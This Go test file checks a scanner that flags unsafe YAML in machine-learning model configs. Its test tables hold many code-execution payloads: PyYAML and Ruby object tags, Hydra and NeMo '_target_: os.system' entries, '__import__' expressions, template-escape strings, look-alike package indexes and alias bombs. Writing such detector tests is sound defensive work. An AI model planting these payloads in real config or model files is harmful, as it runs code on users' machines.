package yamlconf

import (
	"context"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/loadlock/loadlock/validate"
	"github.com/loadlock/loadlock/validate/validatetest"
)

func scanAs(name, content string) validate.Report {
	return validatetest.Kept(name, content, validate.ScanReader(context.Background(), []*validate.Scanner{Scanner()}, name, strings.NewReader(content), int64(len(content)), validatetest.Policy().Scan))
}

const nemo = `sample_rate: 16000
model:
  train_ds: {manifest_filepath: null, batch_size: 16}
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    window_size: 0.025
  encoder: {_target_: nemo.collections.asr.modules.ConformerEncoder, feat_in: 80}
  decoder:
    _target_: nemo.collections.asr.modules.ConvASRDecoder
    vocabulary: [' ', a, b, "'"]
  optim: {name: adamw, lr: 2.0e-3, betas: [0.9, 0.98]}
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
nemo_version: 1.20.0
`

const speechbrain = `sample_rate: 16000
device: cpu
mean_var_norm: !new:speechbrain.processing.features.InputNormalization
    norm_type: sentence
embedding_model: !new:speechbrain.lobes.models.ECAPA_TDNN.ECAPA_TDNN
    input_size: !ref <n_mels>
    channels: [1024, 1024]
    activation: !name:torch.nn.LeakyReLU
modules:
    embedding_model: !ref <embedding_model>
seed: !PLACEHOLDER
`

const mlmodel = `artifact_path: model
flavors:
  python_function:
    env: {conda: conda.yaml, virtualenv: python_env.yaml}
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.10.12
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
mlflow_version: 2.9.2
model_uuid: 5f3e
utc_time_created: '2024-01-01 10:00:00.000000'
`

func TestOrdinaryFilesAreClearedWithoutFindings(t *testing.T) {
	for name, tt := range map[string]struct{ name, content string }{
		"NeMo": {"model_config.yaml", nemo}, "SpeechBrain": {"hyperparams.yaml", speechbrain}, "MLflow": {"MLmodel", mlmodel},
		"conda":                    {"conda.yaml", "channels:\n- conda-forge\ndependencies:\n- python=3.10\n- pip<=23\n- pip:\n  - mlflow==2.9\n  - torch>=2\n  - -r requirements.txt\nname: env\n"},
		"conda with usual places":  {"environment.yml", "dependencies:\n- python=3.10\n- pip:\n  - --extra-index-url https://download.pytorch.org/whl/cu118\n  - git+https://github.com/huggingface/peft.git\n  - transformers @ git+https://github.com/huggingface/transformers@v4.40.0\n"},
		"a python environment":     {"python_env.yaml", "python: 3.10.12\nbuild_dependencies:\n- pip==23.0\ndependencies:\n- -r requirements.txt\n"},
		"Lightning":                {"hparams.yaml", "lr: 0.1\nbetas: !!python/tuple\n- 0.9\n- 0.99\nname: !!python/unicode 'x'\n"},
		"a merge":                  {"x.yaml", "base: &base {lr: 1}\nrun:\n  <<: *base\n  a: *base\n"},
		"two documents":            {"x.yml", "---\na: 1\n---\na: 2\n...\n"},
		"core tags":                {"x.yaml", "a: !!str 5\nb: !!binary aGk=\nc: !!set {a, b}\nd: !!float 1\ne: ! x\n"},
		"latent diffusion":         {"v1-inference.yaml", "model:\n  target: torch.nn.Identity\n  params: {lr: 1}\n"},
		"target is a word":         {"x.yaml", "target: x.y\nregistry: {target: production.env}\n"},
		"a workflow":               {".github/workflows/ci.yml", "on: [push]\njobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n    - run: |\n        pip install git+https://host/x\n        echo '!!python/object'\n"},
		"compose":                  {"docker-compose.yml", "services:\n  x:\n    image: a\n    command: sh -c id\n"},
		"YOLO":                     {"yolov8.yaml", "nc: 80\nactivation: nn.LeakyReLU(0.1)\nbackbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, 'nearest']]\nhead:\n  - [[17, 20], 1, Detect, [nc, anchors]]\n"},
		"another backbone":         {"x.yaml", "backbone: timm/vit_base@v1\nhead: {name: linear}\n"},
		"references":               {"config.yaml", "a: ${model.size}\nb: ${now:%Y}\nc: '{% x'\n"},
		"nothing":                  {"x.yaml", ""},
		"a comment":                {"x.yaml", "# !!python/object/apply:os.system\n"},
		"a byte order mark":        {"x.yaml", "\ufeffa: 1\n"},
		"a template":               {"x.yaml", "chat_template: |\n  {% for m in messages %}{{ m.content }}{% endfor %}\n"},
		"text with many commas":    {"x.yaml", "a: '" + strings.Repeat("x, ", 1000) + "'\n"},
		"a tag inside a text":      {"notes.yaml", "a: see !!python/name in the manual\n"},
		"words of functions":       {"x.yaml", "a: os.path\nb: use os.system() here\nc: socket.io\n_BASE_: ../base.yaml\nd: $5 (each)\n"},
		"a class_name alone":       {"x.yaml", "dataset: {class_name: MyData, path: x}\n"},
		"operators":                {"inference.yml", "PreProcess:\n  transform_ops:\n  - DecodeImage: {img_mode: BGR}\n  - ToCHWImage: null\n"},
		"keys equal by their text": {"x.yaml", "1: a\n'1': b\n"},
	} {
		if rep := scanAs(tt.name, tt.content); !rep.Files[0].Cleared || len(rep.Findings) != 0 {
			t.Errorf("%s\n%s", name, validatetest.Show(rep))
		}
	}
}

func TestWhatCallsIsFound(t *testing.T) {
	for name, tt := range map[string]struct {
		name, content, rule string
		line                int
	}{
		"PyYAML: apply":                   {"x.yaml", "a: 1\nb: !!python/object/apply:os.system ['id']\n", "yamlconf/object-tag", 2},
		"PyYAML: new":                     {"x.yaml", "!!python/object/new:type {args: [x]}\n", "yamlconf/object-tag", 1},
		"PyYAML: name":                    {"x.yaml", "a: !!python/name:os.system\n", "yamlconf/object-tag", 1},
		"PyYAML: module":                  {"x.yaml", "a: !!python/module:os\n", "yamlconf/object-tag", 1},
		"PyYAML: a verbatim tag":          {"x.yaml", "a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n", "yamlconf/object-tag", 1},
		"PyYAML: an escaped tag":          {"x.yaml", "a: !!%70ython/object/apply:os.system [id]\n", "yamlconf/object-tag", 1},
		"PyYAML: a tag directive":         {"x.yaml", "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]\n", "yamlconf/object-tag", 3},
		"PyYAML: a named tag directive":   {"x.yaml", "%TAG !e! tag:yaml.org,2002:\n---\na: !e!python/object/apply:os.system [id]\n", "yamlconf/object-tag", 3},
		"PyYAML: in a key":                {"x.yaml", "? !!python/object/apply:os.system [id]\n: 1\n", "yamlconf/object-tag", 1},
		"PyYAML: a scalar key":            {"x.yaml", "!!python/name:os.system x: 1\n", "yamlconf/object-tag", 1},
		"PyYAML: in a list":               {"x.yaml", "- [a, {b: !!python/name:os.system ''}]\n", "yamlconf/object-tag", 1},
		"PyYAML: in the second document":  {"x.yaml", "a: 1\n---\n!!python/name:os.system\n", "yamlconf/object-tag", 3},
		"PyYAML: behind an anchor":        {"x.yaml", "a: &x !!python/name:os.system\nb: *x\n", "yamlconf/object-tag", 1},
		"PyYAML: under another name":      {"settings", "a: !!python/object/apply:os.system [id]\n", "yamlconf/object-tag", 1},
		"PyYAML: before a broken end":     {"x.yaml", "a: !!python/object/apply:os.system [id]\nb: [\n", "yamlconf/object-tag", 1},
		"SnakeYAML":                       {"x.yaml", "!!javax.script.ScriptEngineManager [!!java.net.URL ['http://host']]\n", "yamlconf/object-tag", 1},
		"Ruby":                            {"x.yaml", "a: !ruby/object:Gem::Installer {}\n", "yamlconf/object-tag", 1},
		"an unknown tag":                  {"x.yaml", "a: !ENV ${SECRET}\n", "yamlconf/tag", 1},
		"HyperPyYAML: apply":              {"hyperparams.yaml", "a: !apply:os.system [id]\n", "yamlconf/target", 1},
		"HyperPyYAML: new":                {"hyperparams.yaml", "a: !new:subprocess.Popen\n  args: [id]\n", "yamlconf/target", 1},
		"HyperPyYAML: name":               {"hyperparams.yaml", "a: !name:builtins.eval\n", "yamlconf/target", 1},
		"HyperPyYAML: an unknown class":   {"hyperparams.yaml", "a: !new:project.Net\n", "yamlconf/unknown-target", 1},
		"HyperPyYAML: include":            {"hyperparams.yaml", "a: !include:../x.yaml\n", "yamlconf/outside-path", 1},
		"CVE-2025-23304: NeMo":            {"model_config.yaml", "model:\n  encoder:\n    _target_: os.system\n    command: id\n", "yamlconf/target", 3},
		"NeMo: target":                    {"model_config.yaml", "target: os.system\n", "yamlconf/target", 1},
		"Hydra: a re-export":              {"config.yaml", "_target_: torch.nn.modules.os.system\n", "yamlconf/target", 1},
		"Hydra: get_method":               {"config.yaml", "_target_: hydra.utils.get_method\npath: os.system\n", "yamlconf/target", 1},
		"Hydra: a project's class":        {"config.yaml", "_target_: src.Net\n", "yamlconf/unknown-target", 1},
		"Hydra: by an alias":              {"config.yaml", "a: &x os.system\nb: {_target_: *x}\n", "yamlconf/target", 1},
		"Hydra: put together":             {"config.yaml", "a: os\nb: {_target_: '${a}.run'}\n", "yamlconf/unknown-target", 2},
		"Hydra: a quoted key":             {"config.yaml", "\"_tar\\x67et_\": os.system\n", "yamlconf/target", 1},
		"Hydra: under another name":       {"settings", "_target_: os.system\n", "yamlconf/target", 1},
		"latent diffusion":                {"x.yaml", "model:\n  target: subprocess.Popen\n  params: {args: id}\n", "yamlconf/target", 2},
		"jsonargparse":                    {"config.yaml", "class_path: os.system\ninit_args: {}\n", "yamlconf/target", 1},
		"MLflow: a loader":                {"MLmodel", "flavors:\n  python_function:\n    loader_module: evil\n", "yamlconf/loader-module", 3},
		"MLflow: a loader below its name": {"sub/MLmodel", "flavors: {python_function: {loader_module: mlflow.pyfunc.os}}\n", "yamlconf/loader-module", 1},
		"MLflow: code":                    {"MLmodel", "flavors:\n  python_function:\n    code: code\n", "yamlconf/code-path", 3},
		"MLflow: a model outside":         {"MLmodel", "flavors:\n  python_function:\n    python_model: ../../x.pkl\n", "yamlconf/outside-path", 3},
		"MLproject":                       {"MLproject", "entry_points:\n  main:\n    command: sh x.sh\n", "yamlconf/command", 3},
		"a requirement by URL":            {"conda.yaml", "dependencies:\n- pip:\n  - git+https://host/x\n", "yamlconf/requirement", 3},
		"a requirement by name and URL":   {"conda.yaml", "dependencies:\n- pip:\n  - x @ https://host/x.whl\n", "yamlconf/requirement", 3},
		"a fork's commit":                 {"conda.yaml", "dependencies:\n- pip:\n  - git+https://github.com/huggingface/peft@8f3a2b1\n", "yamlconf/requirement", 3},
		"two indexes on a line":           {"conda.yaml", "dependencies:\n- pip:\n  - --extra-index-url https://download.pytorch.org/whl -i https://host\n", "yamlconf/requirement", 3},
		"a look-alike of an index":        {"conda.yaml", "dependencies:\n- pip:\n  - -i https://pypi.nvidia.com.host/simple\n", "yamlconf/requirement", 3},
		"another index":                   {"conda.yaml", "dependencies:\n- pip:\n  - --index-url https://host\n", "yamlconf/requirement", 3},
		"requirements by an alias":        {"conda.yaml", "x: &x ['git+https://host/x']\ndependencies:\n- pip: *x\n", "yamlconf/requirement", 1},
		"a channel by URL":                {"conda.yaml", "channels:\n- https://host/c\n", "yamlconf/requirement", 2},
		"a key twice":                     {"x.yaml", "a: 1\nb: 2\na: 3\n", "yamlconf/duplicate-key", 3},
		"a key twice, once quoted":        {"x.yaml", "_target_: torch.nn.Linear\n\"_target_\": torch.nn.ReLU\n", "yamlconf/duplicate-key", 2},
		"a value in itself":               {"x.yaml", "a: &a [*a]\n", "yamlconf/expansion", -1},
		"the environment":                 {"x.yaml", "a: ${oc.env:SECRET}\n", "yamlconf/resolver", 1},
		"a template":                      {"x.yaml", "a:\n  chat_template: \"{{ ''.__class__ }}\"\n", "yamlconf/template-escape", 1},
		"an instruction template":         {"x.yaml", "instruction_template: |-\n  {%- if lipsum %}{%- endif %}\n", "yamlconf/template-unlisted", 1},
		"a template that includes":        {"x.yaml", "chat_template: \"{% include 'x' %}\"\n", "yamlconf/template-reads", 1},
		"a template that does not parse":  {"x.yaml", "chat_template: '{{ x'\n", "yamlconf/template-unparsable", 1},
		"torchtune":                       {"recipe.yaml", "model:\n  _component_: os.system\n", "yamlconf/target", 2},
		"a function under any key":        {"x.yaml", "a:\n- {cls: 'subprocess:run'}\n", "yamlconf/target", 2},
		"PaddleDetection":                 {"infer_cfg.yml", "Preprocess:\n- type: __import__('os').system('id')\n", "yamlconf/expression", 2},
		"PaddleOCR":                       {"inference.yml", "transform_ops:\n- __import__('os').system('id'): {}\n", "yamlconf/expression", 2},
		"OmegaConf: an eval resolver":     {"config.yaml", "a: ${eval:\"__import__('os').system('id')\"}\n", "yamlconf/expression", 1},
		"mmengine":                        {"config.yaml", "custom_imports:\n  imports: [evil]\n", "yamlconf/unknown-target", 2},
		"detectron2":                      {"config.yaml", "_BASE_: /tmp/evil.yaml\n", "yamlconf/outside-path", 1},
		"a template under any key":        {"x.yaml", "prompt: \"{{ ''.__class__.__mro__ }}\"\n", "yamlconf/template-escape", 1},
		"MLflow: another case":            {"mlmodel", "flavors: {python_function: {loader_module: evil}}\n", "yamlconf/loader-module", -1},
		"PyYAML: far behind":              {"settings", "# " + strings.Repeat("x", 5000) + "\na: !!python/object/apply:os.system [id]\n", "yamlconf/object-tag", 2},
		"a module and a function":         {"x.yaml", "model:\n  name: os\n  function: system\n", "yamlconf/target", 2},
		"PyYAML: very far behind":         {"conf", strings.Repeat("#"+strings.Repeat("x", 200)+"\n", 2_000) + "a: !!python/object/apply:os.system [id]\n", "yamlconf/object-tag", -1},
		"PyYAML: in a .txt":               {"hparams.txt", "a: 1\nb: !!python/object/apply:os.system [id]\n", "yamlconf/object-tag", 2},
		"PyYAML: in a .cfg":               {"x.cfg", "{a: 1, b: !!python/object/apply:os.system [id]}\n", "yamlconf/object-tag", 1},
		"PyYAML: in a list of a .conf":    {"x.conf", "b: [!!python/object/apply:os.system [id]]\n", "yamlconf/object-tag", 1},
		"Hydra: deep in another name":     {"settings", "a:\n  b:\n  - _target_: os.system\n", "yamlconf/target", 3},
		"Keras, as YAML":                  {"model.yaml", "class_name: Sequential\nconfig: {layers: [{class_name: Lambda, config: {function: x}}]}\n", "validate/unclaimed", -1}, // the scanner of Keras is not in this test
		"what is not YAML":                {"x.yaml", "a: [1\n", "validate/unparsable", -1},
		"what is not text":                {"x.yaml", "a: 1\n\x00", "validate/unparsable", -1},
		"an alias to nothing":             {"x.yaml", "a: *x\n", "validate/unparsable", -1},
	} {
		rep := scanAs(tt.name, tt.content)
		if !slices.ContainsFunc(rep.Findings, func(f validate.Finding) bool {
			return f.Rule == tt.rule && (tt.line < 0 || f.Line == tt.line || strings.Contains(tt.rule, "template"))
		}) {
			t.Errorf("%s: want %s in line %d\n%s", name, tt.rule, tt.line, validatetest.Show(rep))
		}
	}
}

func TestBombsAreCheap(t *testing.T) {
	var laughs strings.Builder
	laughs.WriteString("a0: &a0 [x, x]\n")
	for i := range 40 {
		fmt.Fprintf(&laughs, "a%d: &a%d [*a%d, *a%d]\n", i+1, i+1, i, i)
	}
	for name, tt := range map[string]struct{ content, rule string }{
		"aliases":        {laughs.String(), "yamlconf/expansion"},
		"many nodes":     {"[" + strings.Repeat("a,", 1<<20) + "a]", "validate/budget"},
		"deep lists":     {strings.Repeat("[", 50_000), ""},
		"deep blocks":    {strings.Repeat("- ", 50_000) + "a", ""},
		"deep flow":      {strings.Repeat("{a: ", 5000) + strings.Repeat("}", 5000), "yamlconf/expansion"},
		"a large file":   {strings.Repeat("# comment\n", 1<<19), "validate/budget"},
		"many anchors":   {strings.Repeat("- &a x\n", 50_000), ""},
		"long scalar":    {"a: " + strings.Repeat("x", 3<<20), ""},
		"quoted escapes": {`a: "` + strings.Repeat(`\x41`, 1<<18) + `"`, ""},
	} {
		start := time.Now()
		rep := scanAs("x.yaml", tt.content)
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("%s took %v", name, took)
		}
		if tt.rule != "" && !slices.ContainsFunc(rep.Findings, func(f validate.Finding) bool { return f.Rule == tt.rule }) {
			t.Errorf("%s: want %s\n%s", name, tt.rule, validatetest.Show(rep))
		}
	}
}

func TestContentAndNameDecide(t *testing.T) {
	for _, tt := range []struct {
		name, content string
		want          bool
	}{
		{"x.yaml", "", true}, {"a/MLmodel", "x", true}, {"x", "a: !!python/tuple [1]", true}, {"README.md", "a: !!python/tuple [1]", false}, {"x.txt", "words and !!python/tuple [1] : ] here", false}, {"x.txt", "_target_: x\nand so on", false}, {"x", "a !!pythonic word", false}, {"x", "a: 1", false},
		{"x.bin", "\x00: !!python/name:x", false}, {"x.conf", "a: 1\n_target_: os.system\n", true},
	} {
		if got := match(validate.Head{Name: tt.name, Size: int64(len(tt.content)), Start: []byte(tt.content)}); got != tt.want {
			t.Errorf("%s %q: %v", tt.name, tt.content, got)
		}
	}
}

func FuzzYAML(f *testing.F) {
	for _, s := range []string{nemo, speechbrain, mlmodel, "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [id]\n", "a: &a [*a]\n", "? [a, b]\n: {c: d}\n", "a: |\n  x\nb: >-\n  y\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		rep := scanAs("x.yaml", s)
		if again := scanAs("x.yaml", s); !reflect.DeepEqual(rep.Findings, again.Findings) {
			t.Fatal("two scans differ")
		}
		if !rep.Files[0].Cleared && len(rep.Findings) == 0 {
			t.Fatal("not cleared, for no reason")
		}
		for _, finding := range rep.Findings {
			if finding.Offset < 0 || finding.Offset > int64(len(s)) || finding.Line < 0 {
				t.Fatalf("place outside the file\n%s", validatetest.Show(rep))
			}
		}
	})
}

func BenchmarkYAML(b *testing.B) {
	content := "labels:\n" + strings.Repeat("- word\n", 50_000)
	b.SetBytes(int64(len(content)))
	b.ReportAllocs()
	for b.Loop() {
		if rep := scanAs("x.yaml", content); !rep.Files[0].Cleared {
			b.Fatal(validatetest.Show(rep))
		}
	}
}
